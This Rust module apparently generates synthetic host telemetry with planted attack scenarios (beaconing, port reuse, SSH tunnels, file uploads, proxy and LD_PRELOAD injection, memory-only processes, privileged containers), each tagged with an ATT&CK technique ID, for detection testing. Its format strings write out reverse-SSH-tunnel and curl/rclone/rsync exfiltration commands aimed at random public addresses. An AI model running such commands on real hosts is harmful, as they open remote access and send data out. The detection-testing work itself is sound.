//! Calls and doors: connections of processes that every host has, ports that other hosts use, borrowed services.

use rand::Rng;
use rand::seq::IndexedRandom;

use super::super::plan::{Plan, Program};
use super::super::role;
use super::super::row::{Cells, cells};
use super::super::seed::{self, pick, public_address};
use super::super::shape;
use super::{PROCESS, Scenario, connected, hiding_place};

pub(super) const SCENARIOS: &[Scenario] = &[
    Scenario {
        id: "beacon",
        title: "A process that every host has calls a server on the internet.",
        attack: "T1071.001",
        subtle: true,
        plant: beacon,
    },
    Scenario {
        id: "reused-port",
        title: "A script listens on a port that is another service's elsewhere.",
        attack: "T1571",
        subtle: true,
        plant: reused_port,
    },
    Scenario {
        id: "cross-role",
        title: "A server program of another role runs here.",
        attack: "T1090",
        subtle: true,
        plant: cross_role,
    },
    Scenario {
        id: "ssh-tunnel",
        title: "An SSH client keeps a way in open from outside.",
        attack: "T1572",
        subtle: true,
        plant: ssh_tunnel,
    },
    Scenario {
        id: "upload",
        title: "A program copies files to a store on the internet.",
        attack: "T1567.002",
        subtle: false,
        plant: upload,
    },
    Scenario {
        id: "proxy-environment",
        title: "A service sends its requests through somebody's proxy.",
        attack: "T1557",
        subtle: true,
        plant: proxy_environment,
    },
    Scenario {
        id: "preload-environment",
        title: "A library is loaded into one service.",
        attack: "T1574.006",
        subtle: true,
        plant: preload_environment,
    },
    Scenario {
        id: "memory-only",
        title: "A process runs from memory alone.",
        attack: "T1620",
        subtle: false,
        plant: memory_only,
    },
    Scenario {
        id: "hidden-process",
        title: "A mount hides a process.",
        attack: "T1564.013",
        subtle: true,
        plant: hidden_process,
    },
    Scenario {
        id: "container",
        title: "A container has all rights over its host.",
        attack: "T1610",
        subtle: true,
        plant: container,
    },
];

/// A process of a service that every host of the role has.
fn victim(plan: &mut Plan<'_>) -> Option<Cells> {
    let services = plan.services();
    services.choose(&mut plan.rng).cloned()
}

fn beacon(plan: &mut Plan<'_>) {
    let Some(victim) = victim(plan) else { return };
    let (address, port) =
        (public_address(&mut plan.rng), pick(&mut plan.rng, &["443", "443", "80", "8443", "53"]));
    let socket = shape::socket(&victim["pid"], ("{ip}", "{eport}"), (&address, port));
    let socket = shape::with_owner_and_cmdline(socket, Some(&victim));
    plan.plant("process_open_sockets", socket, &["process_path", "remote_address", "remote_port"]);
}

fn reused_port(plan: &mut Plan<'_>) {
    let ports = ["5432", "6379", "9200", "3000", "9090", "8080", "3306", "8443", "9100", "5672"];
    let port = pick(&mut plan.rng, &ports);
    if plan.base.find("listening_ports", "port", port).is_some() {
        return;
    }
    let (name, path) =
        [("python3", "/usr/bin/python3.11"), ("perl", "/usr/bin/perl"), ("nc", "/usr/bin/nc.openbsd")]
            [plan.rng.random_range(0..3)];
    let word = seed::letters(&mut plan.rng, 4);
    let cmdline = match name {
        "nc" => format!("nc -lkp {port}"),
        _ => format!("{name} /usr/share/{word}/{word}"),
    };
    let row = plan.process(&Program::new(name, path, &cmdline));
    let listener = shape::listener(&row["pid"], "0.0.0.0", port, "6");
    let listener = shape::with_owner_and_cmdline(listener, Some(&row));
    plan.plant("processes", row, PROCESS);
    plan.plant("listening_ports", listener, &["port", "address", "process_path"]);
}

fn cross_role(plan: &mut Plan<'_>) {
    let foreign = role::foreign(plan.base);
    let Some(service) = foreign.choose(&mut plan.rng) else { return };
    let program =
        Program { uid: service.user.1, ..Program::new(service.name, service.path, service.cmdline) };
    let row = plan.process(&program);
    if let Some((address, port)) = service.listens.first() {
        let listener = shape::listener(&row["pid"], address, port, "6");
        let listener = shape::with_owner_and_cmdline(listener, Some(&row));
        plan.plant("listening_ports", listener, &["port", "process_path"]);
    }
    plan.plant("processes", row, &["name", "path"]);
}

fn ssh_tunnel(plan: &mut Plan<'_>) {
    let address = public_address(&mut plan.rng);
    let (port, back) = (plan.rng.random_range(1_100..9_000), plan.rng.random_range(2_000..60_000));
    let user = seed::letters(&mut plan.rng, 5);
    let cmdline = match plan.rng.random_range(0..3) {
        0 => format!("ssh -fN -R {back}:localhost:22 {user}@{address} -p {port}"),
        1 => format!("ssh -o StrictHostKeyChecking=no -N -D {back} {user}@{address} -p {port}"),
        _ => format!("ssh -NT -L {back}:127.0.0.1:{back} -p {port} {user}@{address}"),
    };
    let uid = pick(&mut plan.rng, &["0", "1000", "1002"]);
    let program = Program { uid, ..Program::new("ssh", "/usr/bin/ssh", &cmdline) };
    connected(plan, &program, (&address, &port.to_string()));
}

fn upload(plan: &mut Plan<'_>) {
    let place = hiding_place(&mut plan.rng);
    let address = public_address(&mut plan.rng);
    let word = seed::letters(&mut plan.rng, 6);
    let (name, path, cmdline) = match plan.rng.random_range(0..3) {
        0 => (
            "rclone",
            format!("{place}/rclone"),
            format!("{place}/rclone copy /var/lib {word}: --transfers 8"),
        ),
        1 => (
            "curl",
            "/usr/bin/curl".to_owned(),
            format!("curl -sT /var/backups/{word}.tgz https://{address}/{word}"),
        ),
        _ => ("rsync", "/usr/bin/rsync".to_owned(), format!("rsync -az /srv/ {word}@{address}:/{word}/")),
    };
    connected(plan, &Program::new(name, &path, &cmdline), (&address, "443"));
}

fn environment(plan: &mut Plan<'_>, key: &str, value: &str) {
    let Some(victim) = victim(plan) else { return };
    let row = cells([("pid", victim["pid"].as_str()), ("key", key), ("value", value)]);
    plan.plant("process_envs", shape::with_owner(row, Some(&victim)), &["key", "value", "name"]);
}

fn proxy_environment(plan: &mut Plan<'_>) {
    let address = public_address(&mut plan.rng);
    let port = plan.rng.random_range(3_000..9_000);
    let key = pick(&mut plan.rng, &["HTTPS_PROXY", "https_proxy", "ALL_PROXY", "HTTP_PROXY"]);
    environment(plan, key, &format!("http://{address}:{port}"));
}

fn preload_environment(plan: &mut Plan<'_>) {
    let word = seed::letters(&mut plan.rng, 5);
    let directory =
        pick(&mut plan.rng, &["/usr/lib/x86_64-linux-gnu", "/usr/local/lib", "/lib/x86_64-linux-gnu"]);
    let key = pick(&mut plan.rng, &["LD_PRELOAD", "LD_PRELOAD", "LD_AUDIT"]);
    environment(plan, key, &format!("{directory}/lib{word}.so.1"));
}

fn memory_only(plan: &mut Plan<'_>) {
    let number = plan.rng.random_range(3..9);
    let word = if plan.rng.random_bool(0.5) { seed::letters(&mut plan.rng, 4) } else { String::new() };
    let path = format!("/memfd:{word} (deleted)");
    let names = ["kthreadd", "systemd", "bash", "sd-resolve", "cron", "python3"];
    let name =
        if plan.rng.random_bool(0.7) { pick(&mut plan.rng, &names).to_owned() } else { number.to_string() };
    let cmdline =
        pick(&mut plan.rng, &["[kworker/u8:3]", "/usr/sbin/cron -f", "systemd --user", "-bash", ""]);
    let row = plan.process(&Program { on_disk: false, ..Program::new(&name, &path, cmdline) });
    plan.plant("processes", row, &["name", "path"]);
}

fn hidden_process(plan: &mut Plan<'_>) {
    let pid = plan.rng.random_range(900..40_000);
    let (device, kind) = [("tmpfs", "tmpfs"), ("/dev/root", "ext4")][plan.rng.random_range(0..2)];
    let row = super::super::bundled::mounted(device, &format!("/proc/{pid}"), kind);
    plan.plant("mounts", row, &["path", "type"]);
}

fn container(plan: &mut Plan<'_>) {
    if plan.base.rows("docker_containers").is_none_or(<[_]>::is_empty) {
        return;
    }
    let name = format!("{}_{}", seed::letters(&mut plan.rng, 7), seed::letters(&mut plan.rng, 6));
    let image =
        pick(&mut plan.rng, &["alpine:3.18", "ubuntu:22.04", "busybox:latest", "debian:12-slim", "redis:7"]);
    let id = seed::hex(&mut plan.rng, 64);
    plan.plant(
        "docker_containers",
        shape::container(&id, (image, &name), "1"),
        &["name", "image", "privileged"],
    );
    let shim = format!(
        "/usr/bin/containerd-shim-runc-v2 -namespace moby -id {id} -address /run/containerd/containerd.sock"
    );
    let program = Program {
        unit: "docker.service",
        ..Program::new("containerd-shim", "/usr/bin/containerd-shim-runc-v2", &shim)
    };
    let row = plan.process(&program);
    plan.plant("processes", row, PROCESS);
}
